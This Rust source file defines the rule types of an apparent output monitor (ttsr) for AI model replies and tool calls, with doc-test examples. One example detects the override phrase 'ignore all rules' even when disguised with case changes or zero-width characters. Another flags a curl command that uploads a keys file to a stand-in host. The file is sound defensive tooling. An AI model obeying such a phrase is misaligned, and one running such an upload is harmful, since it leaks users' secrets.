//! When a rule is broken.

use std::fmt;
use std::sync::Arc;

use serde::{Deserialize, Serialize};

/// How the text of a [`Pattern`] is read.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum PatternKind {
    /// The exact text.
    Literal,
    /// The exact text, not inside a longer word (Unicode word boundaries on both sides).
    Word,
    /// A regular expression in the syntax of the `regex` crate, Unicode on.
    Regex,
}

impl PatternKind {
    /// The name used in rules: `literal`, `word` or `regex`.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            PatternKind::Literal => "literal",
            PatternKind::Word => "word",
            PatternKind::Regex => "regex",
        }
    }
}

/// One thing to match inside a rule.
///
/// # Example: three ways to read a text
/// ```
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let hits = |pattern: Pattern| {
///     let pack = Pack::builder().rule(Rule::new("demo/it", vec![pattern])).build()?;
///     let mut stream = pack.stream();
///     let hits = stream.push(PartId(0), b"a.bc a-b").len();
///     Ok::<_, ttsr::LoadError>(hits + stream.finish().len())
/// };
/// assert_eq!(hits(Pattern::literal("a.b"))?, 1);
/// assert_eq!(hits(Pattern::word("a.b"))?, 0, "it goes on");
/// assert_eq!(hits(Pattern::regex("a.b$"))?, 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Pattern {
    /// How `text` is read.
    pub kind: PatternKind,
    /// The literal, the word or the regular expression as written.
    pub text: String,
    /// The regions it is looked for in: where all of them are at once. Empty: everywhere.
    pub region: Vec<Region>,
    /// What it does not tell apart; none twice, in [`Fold::ALL`]'s order.
    pub fold: Vec<Fold>,
    /// A dotted glob on the path of the argument it is looked for in, besides the rule's own.
    pub arg: Option<String>,
}

impl Pattern {
    /// A pattern that is looked for everywhere.
    #[must_use]
    pub fn new(kind: PatternKind, text: impl Into<String>) -> Pattern {
        Pattern {
            kind,
            text: text.into(),
            region: Vec::new(),
            fold: Vec::new(),
            arg: None,
        }
    }

    /// The exact text.
    #[must_use]
    pub fn literal(text: impl Into<String>) -> Pattern {
        Pattern::new(PatternKind::Literal, text)
    }

    /// The exact text, not inside a longer word.
    #[must_use]
    pub fn word(text: impl Into<String>) -> Pattern {
        Pattern::new(PatternKind::Word, text)
    }

    /// A regular expression in the syntax of the `regex` crate.
    #[must_use]
    pub fn regex(text: impl Into<String>) -> Pattern {
        Pattern::new(PatternKind::Regex, text)
    }

    /// The pattern as a regular expression in the syntax of the `regex` crate.
    ///
    /// # Example: a word is bounded on both sides
    /// ```
    /// use ttsr::Pattern;
    /// let word = Pattern::word("a.b");
    /// assert_eq!(word.to_regex(), r"\b{start-half}a\.b\b{end-half}");
    /// ```
    #[must_use]
    pub fn to_regex(&self) -> String {
        match self.kind {
            PatternKind::Literal => regex_syntax::escape(&self.text),
            PatternKind::Word => {
                format!(
                    r"\b{{start-half}}{}\b{{end-half}}",
                    regex_syntax::escape(&self.text)
                )
            }
            PatternKind::Regex => self.text.clone(),
        }
    }
}

/// A kind of text inside a part.
///
/// # Example: in code, not in prose
/// ```
/// use ttsr::rule::Region;
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut pattern = Pattern::literal("unwrap()");
/// pattern.region = vec![Region::CodeIn("rust".into())];
/// let mut stream = Pack::builder().rule(Rule::new("demo/no-unwrap", vec![pattern])).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"Never call unwrap().\n\n").len(), 0);
/// assert_eq!(stream.push(PartId(0), b"~~~rust\nx.unwrap();\n~~~\n").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(into = "String")]
#[serde(try_from = "String")]
#[non_exhaustive]
pub enum Region {
    /// Markdown text that is not code.
    Prose,
    /// Fenced or indented code.
    Code,
    /// Fenced code of that language, lower case.
    CodeIn(String),
    /// Code between backticks.
    InlineCode,
    /// A block quote.
    Quote,
    /// A heading.
    Heading,
    /// Lines that an edit adds.
    Added,
    /// Lines that an edit removes.
    Removed,
    /// What a file will hold, as far as the tool call shows it.
    File,
    /// Commands of a shell, quotes removed.
    Shell,
    /// Comments in code.
    Comment,
    /// Strings in code.
    String,
    /// Code without its comments and strings.
    CodeOnly,
}

impl Region {
    /// Every region but [`Region::CodeIn`], in the order of their declaration.
    pub const PLAIN: [Region; 12] = [
        Region::Prose,
        Region::Code,
        Region::InlineCode,
        Region::Quote,
        Region::Heading,
        Region::Added,
        Region::Removed,
        Region::File,
        Region::Shell,
        Region::Comment,
        Region::String,
        Region::CodeOnly,
    ];

    /// The name used in rules: `prose`, `code`, `code:rust`, …
    #[must_use]
    pub fn name(&self) -> String {
        match self {
            Region::Prose => "prose".into(),
            Region::Code => "code".into(),
            Region::CodeIn(language) => format!("code:{language}"),
            Region::InlineCode => "inline-code".into(),
            Region::Quote => "quote".into(),
            Region::Heading => "heading".into(),
            Region::Added => "added".into(),
            Region::Removed => "removed".into(),
            Region::File => "file".into(),
            Region::Shell => "shell".into(),
            Region::Comment => "comment".into(),
            Region::String => "string".into(),
            Region::CodeOnly => "code-only".into(),
        }
    }

    /// The region with that [`name`](Self::name).
    ///
    /// # Example: code of one language
    /// ```
    /// use ttsr::rule::Region;
    /// let region = Region::from_name("code:rust").unwrap();
    /// assert_eq!(region, Region::CodeIn("rust".into()));
    /// assert_eq!(region.name(), "code:rust");
    /// ```
    #[must_use]
    pub fn from_name(name: &str) -> Option<Region> {
        match name.strip_prefix("code:") {
            Some("") => None,
            Some(language) => Some(Region::CodeIn(language.to_lowercase())),
            None => Region::PLAIN
                .into_iter()
                .find(|region| region.name() == name),
        }
    }
}

impl From<Region> for String {
    fn from(region: Region) -> String {
        region.name()
    }
}

impl TryFrom<String> for Region {
    type Error = String;
    fn try_from(name: String) -> Result<Region, String> {
        Region::from_name(&name).ok_or_else(|| format!("unknown region `{name}`"))
    }
}

/// A difference between characters that a pattern does not see.
///
/// # Example: however it is written
/// ```
/// use ttsr::rule::Fold;
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut pattern = Pattern::literal("ignore all rules");
/// pattern.fold = vec![Fold::Case, Fold::Invisible];
/// let mut stream = Pack::builder().rule(Rule::new("demo/obey", vec![pattern])).build()?.stream();
/// let text = "IGNORE all\u{200b} Rules";
/// assert_eq!(stream.push(PartId(0), text.as_bytes()).len(), 1);
/// assert_eq!(Fold::from_name("invisible"), Some(Fold::Invisible));
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum Fold {
    /// Upper and lower case.
    Case,
    /// Compatibility forms: full width, ligatures, styled letters (Unicode NFKC; feature `unicode`).
    Nfkc,
    /// Characters that look alike (Unicode UTS 39; feature `unicode`).
    Confusables,
    /// Characters that are not seen: zero-width, directional, tags, soft hyphen.
    Invisible,
}

impl Fold {
    /// Every fold, in the order of their declaration.
    pub const ALL: [Fold; 4] = [Fold::Case, Fold::Nfkc, Fold::Confusables, Fold::Invisible];

    /// The name used in rules.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Fold::Case => "case",
            Fold::Nfkc => "nfkc",
            Fold::Confusables => "confusables",
            Fold::Invisible => "invisible",
        }
    }

    /// The fold with that [`name`](Self::name).
    #[must_use]
    pub fn from_name(name: &str) -> Option<Fold> {
        Fold::ALL.into_iter().find(|fold| fold.name() == name)
    }
}

/// How far apart the patterns of one condition may match.
///
/// # Example: on one line, or not at all
/// ```
/// use ttsr::rule::Within;
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut rule = Rule::new("demo/no-upload", Vec::new());
/// rule.condition.all = vec![Pattern::word("curl"), Pattern::literal("--data")];
/// rule.condition.within = Some(Within::Lines(1));
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"curl a.example\n--data\n").len(), 0);
/// assert_eq!(stream.push(PartId(0), b"curl --data @keys a.example\n").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum Within {
    /// From the first start to the last end at most so many lines are touched; in one haystack.
    Lines(u32),
    /// From the first start to the last end at most so many characters; in one haystack.
    Chars(u32),
    /// Anywhere in the same part.
    Part,
    /// Anywhere in the same reply; parts in the order in which they opened.
    Message,
}

impl Within {
    /// The name used in rules: `lines`, `chars`, `part` or `message`.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Within::Lines(_) => "lines",
            Within::Chars(_) => "chars",
            Within::Part => "part",
            Within::Message => "message",
        }
    }
}

/// Over what matches are counted.
///
/// # Example: by name, narrowest first
/// ```
/// use ttsr::rule::Per;
/// assert_eq!(Per::ALL.map(Per::name), ["part", "message", "turn", "session"]);
/// assert_eq!(Per::from_name("turn"), Some(Per::Turn));
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum Per {
    /// One part.
    Part,
    /// One reply, whatever number of attempts it took; a discarded attempt does not count.
    Message,
    /// One turn of the user.
    Turn,
    /// The whole session.
    Session,
}

impl Per {
    /// Every one, narrowest first.
    pub const ALL: [Per; 4] = [Per::Part, Per::Message, Per::Turn, Per::Session];

    /// The name used in rules.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Per::Part => "part",
            Per::Message => "message",
            Per::Turn => "turn",
            Per::Session => "session",
        }
    }

    /// The one with that [`name`](Self::name).
    #[must_use]
    pub fn from_name(name: &str) -> Option<Per> {
        Per::ALL.into_iter().find(|per| per.name() == name)
    }
}

/// How many matches it takes.
///
/// # Example: the third time in a reply
/// ```
/// use ttsr::rule::{Count, Per};
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut rule = Rule::new("demo/no-regrets", vec![Pattern::literal("Sorry")]);
/// rule.condition.count = Some(Count { times: 3, per: Per::Message });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"Sorry. Sorry, ").len(), 0);
/// assert_eq!(stream.push(PartId(1), b"Sorry!").len(), 1, "in another part of it");
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Count {
    /// So many matches that do not overlap.
    pub times: u32,
    /// Over what they are counted.
    pub per: Per,
}

/// What the text of a group of a regular expression must be like.
///
/// # Example: a seed, and the place for one
/// ```
/// use ttsr::rule::Capture;
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut rule = Rule::new("demo/no-seed", vec![Pattern::regex(r#"seed = "([^"]*)""#)]);
/// rule.condition.capture = Some(Capture { random: true, ..Capture::default() });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), br#"seed = "your-own-seed-goes-here""#).len(), 0);
/// assert_eq!(stream.push(PartId(0), br#"seed = "q8Zr1Tn5Xw0Ks7Vb2Lm4""#).len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Capture {
    /// The group, by number (0: the whole match) or name. Default: `1` if there is one, else `0`.
    pub group: Option<String>,
    /// Least Shannon entropy, in thousandths of a bit per character.
    pub entropy: Option<u32>,
    /// Whether it must look random for its alphabet: hexadecimal digits from 3 bits a character on, base64 from
    /// 4, anything else from 4.2; 16 characters at least.
    pub random: bool,
    /// Texts that do not count, lower or upper case; `*` and `?` are wildcards.
    pub not_in: Vec<String>,
}

/// The reply goes round in circles.
///
/// What stands in a row must be 240 characters together. What is regular by nature (blanks, ruled lines, numbers,
/// tables, code) is a circle from the 40th time and 1,200 characters on.
///
/// # Example: four times the same
/// ```
/// use ttsr::rule::Repetition;
/// use ttsr::{Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/no-circles", Vec::new());
/// let repetition = Repetition { unit_chars: (20, 400), times: 4, near: false, turns: None };
/// rule.condition.repetition = Some(repetition);
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// let unit = "I try once more, from the very beginning, with quite another idea. ";
/// assert_eq!(stream.push(PartId(0), unit.repeat(3).as_bytes()).len(), 0);
/// assert_eq!(stream.push(PartId(0), unit.as_bytes()).len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Repetition {
    /// Shortest and longest unit that is repeated, in characters. One of more than 4,096 bytes is not seen.
    pub unit_chars: (u32, u32),
    /// How often it must stand in a row, the first time included.
    pub times: u32,
    /// Whether lines and sentences that are nearly the same count as well: 8 of the last 10, each of at least 7
    /// different words.
    pub near: bool,
    /// So many replies in a row that are nearly the same count as well, each of at least 20 words; none: replies
    /// are not compared.
    pub turns: Option<u32>,
}

/// A bound on the reply itself. Bounds that are not given do not bind.
///
/// `bytes`, `lines` and `tokens` count what the rule reads: the text of a part, and of tool input the decoded text
/// of the arguments in [`Rule::args`](crate::Rule::args), all of them together, each of which begins a line. They do
/// not depend on how the reply was cut. `deltas`, `millis` and `stall_millis` are about the part as a whole.
///
/// # Example: the first byte too many
/// ```
/// use ttsr::rule::Bound;
/// use ttsr::{Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/be-brief", Vec::new());
/// rule.condition.limit = Some(Bound { bytes: Some(10), ..Bound::default() });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"0123456789").len(), 0);
/// assert_eq!(stream.push(PartId(0), b"0").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
///
/// # Example: lines of an argument
/// ```
/// use ttsr::rule::Bound;
/// use ttsr::{Channel, Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/short-files", Vec::new());
/// (rule.on, rule.args) = (vec![Channel::ToolInput], vec!["content".into()]);
/// rule.condition.limit = Some(Bound { lines: Some(2), ..Bound::default() });
/// let pack = Pack::builder().rule(rule).build()?;
/// let hits = |input: &[u8]| {
///     let mut stream = pack.stream();
///     stream.open(PartId(0), Channel::ToolInput);
///     stream.push(PartId(0), input).len()
/// };
/// assert_eq!(hits(br#"{"path": "a", "content": "one\ntwo\n"}"#), 0);
/// assert_eq!(hits(br#"{"path": "a", "content": "one\ntwo\nthree"}"#), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Bound {
    /// Most bytes.
    pub bytes: Option<u64>,
    /// Most lines that have a byte, the last one included.
    pub lines: Option<u64>,
    /// Most deltas of a part. Depends on how the reply was cut, so the same reply may hit or not.
    pub deltas: Option<u64>,
    /// Most tokens, estimated unless the host counts them. The host counts a whole part, so its count does not
    /// apply to rules with `args`.
    pub tokens: Option<u64>,
    /// Longest time from the opening of a part, in milliseconds. Depends on arrival.
    pub millis: Option<u64>,
    /// Longest time between two deltas, in milliseconds. Depends on arrival.
    pub stall_millis: Option<u64>,
}

/// The wrong natural language: 40 of the last 48 letters are of another script (a Han, kana or Hangul letter
/// counts for 3), or, where a language is expected, 10 more of the last 32 words are small words of another
/// one. Code is not looked at.
///
/// # Example: Latin letters only
/// ```
/// use ttsr::rule::Script;
/// use ttsr::{Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/latin", Vec::new());
/// rule.condition.script = Some(Script { expect: vec!["latin".into()] });
/// let pack = Pack::builder().rule(rule).build()?;
/// let hits = |text: &str| {
///     let mut stream = pack.stream();
///     let hits = stream.push(PartId(0), text.as_bytes()).len();
///     hits + stream.finish().len()
/// };
/// assert_eq!(hits("Это совсем не то, о чём мы говорили раньше, и даже не тот язык."), 1);
/// assert_eq!(hits("That is not it, and «не то» is no more than a word."), 0);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Script {
    /// The scripts (`latin`, `han`, `cyrillic`, …) or languages (`en`, `de`, …) that are right.
    pub expect: Vec<String>,
}

impl Script {
    /// What may be expected: scripts by their Unicode names, languages by their ISO 639 codes.
    pub const NAMES: [&'static str; 27] = crate::detect::script::NAMES;
}

/// Names that are known, from one list or several. Clones share the lists: a thousand rules with the same list of
/// 50,000 names hold it once.
///
/// # Example: names from a list, and one more
/// ```
/// use ttsr::rule::KnownList;
/// let mut known: KnownList = ["serde", "tokio"].into_iter().collect();
/// known.add(["anyhow".to_owned()].into());
/// assert_eq!(known.iter().collect::<Vec<_>>(), ["serde", "tokio", "anyhow"]);
/// ```
#[derive(Clone, Default, Serialize, Deserialize)]
#[serde(from = "Vec<String>", into = "Vec<String>")]
pub struct KnownList {
    lists: Vec<Arc<[String]>>,
}

impl KnownList {
    /// Adds a list, without copying it.
    pub fn add(&mut self, list: Arc<[String]>) {
        if !list.is_empty() {
            self.lists.push(list);
        }
    }

    /// Every name, list by list.
    pub fn iter(&self) -> impl Iterator<Item = &str> {
        self.lists
            .iter()
            .flat_map(|list| list.iter())
            .map(String::as_str)
    }

    /// The lists.
    pub(crate) fn lists(&self) -> &[Arc<[String]>] {
        &self.lists
    }
}

impl PartialEq for KnownList {
    fn eq(&self, other: &KnownList) -> bool {
        let is_same = |(one, other): (&Arc<[String]>, &Arc<[String]>)| Arc::ptr_eq(one, other);
        let (lists, others) = (&self.lists, &other.lists);
        lists.len() == others.len() && lists.iter().zip(others).all(is_same)
            || self.iter().eq(other.iter())
    }
}

impl Eq for KnownList {}

impl fmt::Debug for KnownList {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_list().entries(self.iter()).finish()
    }
}

impl From<Vec<String>> for KnownList {
    fn from(names: Vec<String>) -> KnownList {
        let mut known = KnownList::default();
        known.add(names.into());
        known
    }
}

impl From<KnownList> for Vec<String> {
    fn from(known: KnownList) -> Vec<String> {
        known.iter().map(str::to_owned).collect()
    }
}

impl<N: Into<String>> FromIterator<N> for KnownList {
    fn from_iter<I: IntoIterator<Item = N>>(names: I) -> KnownList {
        KnownList::from(names.into_iter().map(N::into).collect::<Vec<String>>())
    }
}

/// Names that nobody knows.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct UnknownName {
    /// Names that are known, besides the standard libraries'; the host may add its own.
    pub known: KnownList,
    /// What is named; empty: packages.
    #[serde(default)]
    pub of: Vec<Named>,
}

impl UnknownName {
    /// Whether it is about names of that kind.
    ///
    /// # Example: packages, where nothing else is said
    /// ```
    /// use ttsr::rule::{Named, UnknownName};
    /// let mut names = UnknownName::default();
    /// assert!(names.is_of(Named::Package) && !names.is_of(Named::File));
    /// names.of = vec![Named::File];
    /// assert!(names.is_of(Named::File) && !names.is_of(Named::Package));
    /// ```
    #[must_use]
    pub fn is_of(&self, named: Named) -> bool {
        self.of.contains(&named) || self.of.is_empty() && named == Named::Package
    }
}

/// What a name is of.
///
/// # Example: a tool that there is not
/// ```
/// use ttsr::rule::{Condition, Named, UnknownName};
/// use ttsr::{Channel, Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/no-such-tool", Vec::new());
/// rule.on = vec![Channel::ToolInput];
/// let of = vec![Named::from_name("tool").unwrap()];
/// rule.condition.unknown_name = Some(UnknownName { known: ["read"].into_iter().collect(), of });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// stream.open(PartId(0), Channel::ToolInput);
/// stream.open(PartId(1), Channel::ToolInput);
/// assert_eq!(stream.tool(PartId(0), "read", "call_1").len(), 0);
/// assert_eq!(stream.tool(PartId(1), "raed", "call_2").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum Named {
    /// A package, crate or module that code imports.
    Package,
    /// A file that a code span of the text names.
    File,
    /// A tool that is called.
    Tool,
}

impl Named {
    /// Every one.
    pub const ALL: [Named; 3] = [Named::Package, Named::File, Named::Tool];

    /// The name used in rules.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Named::Package => "package",
            Named::File => "file",
            Named::Tool => "tool",
        }
    }

    /// The one with that [`name`](Self::name).
    #[must_use]
    pub fn from_name(name: &str) -> Option<Named> {
        Named::ALL.into_iter().find(|named| named.name() == name)
    }
}

/// Code of a certain shape. Without the feature `ast` a rule that has it does not load.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Ast {
    /// The languages that the code may be in, by their [names](Ast::LANGUAGES).
    pub languages: Vec<String>,
    /// Patterns of ast-grep; code that matches any of them.
    pub any: Vec<String>,
    /// Patterns of ast-grep that the match must stand in, any of them; a metavariable is the same inside and
    /// outside. Empty: anywhere.
    pub inside: Vec<String>,
    /// Patterns of ast-grep that the match must not match besides.
    pub not: Vec<String>,
}

impl Ast {
    /// The languages there are.
    pub const LANGUAGES: [&'static str; 6] =
        ["rust", "typescript", "tsx", "javascript", "python", "go"];
}

/// The same tool call again and again.
///
/// # Example: the third time
/// ```
/// use ttsr::rule::DoomLoop;
/// use ttsr::{Channel, Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/again", Vec::new());
/// rule.on = vec![Channel::ToolInput];
/// rule.condition.doom_loop = Some(DoomLoop { times: 3, differing: 0 });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// let calls = [0, 1, 2].map(|number| {
///     let part = PartId(number);
///     stream.open(part, Channel::ToolInput);
///     let _named = stream.tool(part, "read", &format!("call_{number}"));
///     let hits = stream.push(part, br#"{"path": "a.txt"}"#).len();
///     hits + stream.close(part).len()
/// });
/// assert_eq!(calls, [0, 0, 1]);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct DoomLoop {
    /// How often in a row the same call, or the same two or three in turn.
    pub times: u32,
    /// In how many arguments a call may differ from the one before, fewer than half of them. Such calls are
    /// a loop from 20 in a row on, or from `times` if that is more.
    pub differing: u32,
}

/// When a rule is broken: something of `any`, `all`, `sequence` or a detector is there, and what stands
/// beside it does not forbid it.
///
/// # Example: unless something stands beside it
/// ```
/// use ttsr::rule::Condition;
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut rule = Rule::new("demo/say-why", Vec::new());
/// rule.condition = Condition::any(vec![Pattern::literal("unsafe {")]);
/// rule.condition.none = vec![Pattern::literal("SAFETY:")];
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"unsafe { a() } // SAFETY: it is ours\n").len(), 0);
/// assert_eq!(stream.push(PartId(0), b"unsafe { b() }\n").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Condition {
    /// Any of these matches.
    pub any: Vec<Pattern>,
    /// All of these match, in any order, [`within`](Self::within) (default: the part).
    pub all: Vec<Pattern>,
    /// These match one after the other, without overlap, [`within`](Self::within) (default: the part).
    pub sequence: Vec<Pattern>,
    /// None of these matches [`within`](Self::within) (default: one line) of what matched, on either side,
    /// in the same haystack.
    pub none: Vec<Pattern>,
    /// How far apart; none: the default of what it is for.
    pub within: Option<Within>,
    /// The match ends within so many characters of the haystack's beginning.
    pub first: Option<u32>,
    /// The match begins within so many characters of the haystack's end.
    pub last: Option<u32>,
    /// The match is a whole line.
    pub line: bool,
    /// It takes so many.
    pub count: Option<Count>,
    /// What the match, or a group of it, must be like.
    pub capture: Option<Capture>,
    /// The reply goes round in circles.
    pub repetition: Option<Repetition>,
    /// Control tokens of a model family stand in the reply.
    pub leak: bool,
    /// The reply is too long, or too slow.
    pub limit: Option<Bound>,
    /// The reply is in the wrong language.
    pub script: Option<Script>,
    /// Code names what nobody knows.
    pub unknown_name: Option<UnknownName>,
    /// The same tool call again and again.
    pub doom_loop: Option<DoomLoop>,
    /// Code of a certain shape (feature `ast`).
    pub ast: Option<Ast>,
}

impl Condition {
    /// Broken where any of the patterns matches.
    #[must_use]
    pub fn any(patterns: Vec<Pattern>) -> Condition {
        Condition {
            any: patterns,
            ..Condition::default()
        }
    }

    /// Whether one short text can break it: loops and bounds need more than an example would show.
    pub(crate) fn fits_an_example(&self) -> bool {
        self.repetition.is_none() && self.limit.is_none() && self.doom_loop.is_none()
    }

    /// Every pattern, in the order `any`, `all`, `sequence`, `none`.
    ///
    /// # Example: one text with another
    /// ```
    /// use ttsr::rule::Condition;
    /// use ttsr::Pattern;
    /// let mut condition = Condition::any(vec![Pattern::literal("unsafe")]);
    /// condition.none = vec![Pattern::literal("// SAFETY:")];
    /// let texts: Vec<&str> = condition.patterns().map(|pattern| &*pattern.text).collect();
    /// assert_eq!(texts, ["unsafe", "// SAFETY:"]);
    /// ```
    pub fn patterns(&self) -> impl Iterator<Item = &Pattern> {
        self.any
            .iter()
            .chain(&self.all)
            .chain(&self.sequence)
            .chain(&self.none)
    }
}
